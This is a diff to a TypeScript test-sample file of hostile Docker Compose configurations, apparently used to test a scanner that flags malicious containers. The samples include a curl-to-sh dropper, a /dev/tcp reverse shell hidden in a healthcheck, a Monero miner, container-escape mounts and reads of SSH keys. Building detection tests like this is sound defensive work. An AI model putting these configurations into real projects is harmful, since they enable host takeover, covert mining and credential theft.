@@ -1,3 +1,4 @@
+import type { Category } from '../../../agent/model/finding.ts';
 import { ofFamily } from './sample.ts';
 import { monero } from './wallets.ts';
 
@@ -13,9 +14,12 @@ function hostile(
   level: 'easy' | 'ordinary' | 'hard',
   technique: string,
   compose: string,
-  expect: 'malicious' | 'suspicious' = 'malicious',
+  lines: readonly string[],
+  more: { readonly expect?: 'suspicious'; readonly does?: Category } = {},
 ) {
-  return { id: `compose-${name}`, level, technique, files: {}, compose, expect, where: 'compose.yaml' };
+  const id = `compose-${name}`;
+  const expect = 'malicious' as const;
+  return { id, level, technique, files: {}, compose, expect, where: 'compose.yaml', lines, ...more };
 }
 
 export const samples = ofFamily('compose', [
@@ -24,42 +28,49 @@ export const samples = ofFamily('compose', [
     'easy',
     'The socket of Docker in a service (T1611).',
     service('volumes:', '  - /var/run/docker.sock:/var/run/docker.sock'),
+    ['docker.sock'],
   ),
   hostile(
     'socket-folder',
     'hard',
     'The same by the folder it lies in, through another name of it and the long form (T1611).',
     service('volumes:', '  - type: bind', '    source: /var/../run//', '    target: /r'),
+    ['type: bind', 'source: /var/../run//'],
   ),
   hostile(
     'privileged',
     'easy',
     'A privileged service with the processes of the host (T1611).',
     service('privileged: true', 'pid: host'),
+    ['privileged: true'],
   ),
   hostile(
     'root-mount',
     'easy',
     'The root of the host (T1611).',
     service('volumes: ["/:/host:rw"]', 'command: ["chroot", "/host", "sh"]'),
+    ['/:/host'],
   ),
   hostile(
     'interpolated-mount',
     'hard',
     'The same where only the default of a variable says so (T1611).',
     service(`volumes: ["\${DATA_DIR:-/}:/data"]`, `privileged: \${P:-true}`),
+    ['DATA_DIR'],
   ),
   hostile(
     'anchors',
     'hard',
     'Capabilities through an anchor and a merge key, so that the service does not have them in its text.',
     `x-base: &base\n  cap_add: [SYS_ADMIN, SYS_PTRACE, SYS_MODULE]\n  security_opt: ["apparmor=unconfined", "seccomp:unconfined"]\nservices:\n  app:\n    <<: *base\n    image: ${image}\n`,
+    ['cap_add'],
   ),
   hostile(
     'driver-options-bind',
     'hard',
     'A named volume that is a bind mount by the options of its driver (T1611).',
     `services:\n  app:\n    image: ${image}\n    volumes: ["data:/data"]\nvolumes:\n  data:\n    driver_opts: { type: none, o: bind, device: /etc }\n`,
+    ['driver_opts'],
   ),
   hostile(
     'miner-command',
@@ -68,6 +79,8 @@ export const samples = ofFamily('compose', [
     service(
       `command: ["-o", "stratum+tcp://pool.example.invalid:3333", "-u", "${monero}", "-p", "x", "--coin", "monero"]`,
     ),
+    ['stratum+tcp'],
+    { does: 'miner' },
   ),
   hostile(
     'command-dropper',
@@ -77,6 +90,8 @@ export const samples = ofFamily('compose', [
       'entrypoint: /bin/sh -c',
       'command: ["curl -fsSL http://192.0.2.66/i.sh | sh; exec python3 -m http.server"]',
     ),
+    ['i.sh'],
+    { does: 'dropper' },
   ),
   hostile(
     'health-check-shell',
@@ -87,6 +102,8 @@ export const samples = ofFamily('compose', [
       '  test: ["CMD-SHELL", "bash -c \'exec 5<>/dev/tcp/192.0.2.9/443; sh <&5 >&5 2>&1\' || exit 0"]',
       '  interval: 60s',
     ),
+    ['/dev/tcp/'],
+    { does: 'shell' },
   ),
   hostile(
     'lifecycle-hook',
@@ -98,19 +115,23 @@ export const samples = ofFamily('compose', [
       '    user: root',
       '    privileged: true',
     ),
+    ['nsenter', '      privileged: true'],
+    { does: 'escape' },
   ),
   hostile(
     'devices',
     'ordinary',
     'Memory and disks of the host as devices (T1611).',
     service('devices: ["/dev/mem:/dev/mem", "/dev/sda:/dev/sda:rwm"]'),
+    ['/dev/mem'],
   ),
   hostile(
     'host-network',
     'ordinary',
     'The network and user namespaces of the host (T1610).',
     service('network_mode: host', 'userns_mode: host', 'ipc: host'),
-    'suspicious',
+    ['network_mode', 'userns_mode'],
+    { expect: 'suspicious' },
   ),
   hostile(
     'gpu-hook-environment',
@@ -122,18 +143,22 @@ export const samples = ofFamily('compose', [
       '  LD_PRELOAD: /proc/self/cwd/poc.so',
       '  NVIDIA_DRIVER_CAPABILITIES: all',
     ),
+    ['LD_PRELOAD'],
+    { does: 'escape' },
   ),
   hostile(
     'configs-secrets-file',
     'hard',
     'Files of the host through configs and env_file (T1552.001).',
     `services:\n  app:\n    image: ${image}\n    env_file: ["/root/.warden/.env"]\n    secrets: [k]\nsecrets:\n  k:\n    file: /root/.ssh/id_ed25519\n`,
+    ['/root/.warden/.env', '/root/.ssh/id_ed25519'],
   ),
   hostile(
     'build-include',
     'ordinary',
     'A build from a repository of others, and files included from outside (content decided after the scan).',
     'include:\n  - ../../etc/other.yaml\nservices:\n  app:\n    build:\n      context: https://git.example.invalid/x.git\n      privileged: true\n',
-    'suspicious',
+    ['other.yaml', 'build:', 'x.git', 'privileged'],
+    { expect: 'suspicious' },
   ),
 ]);
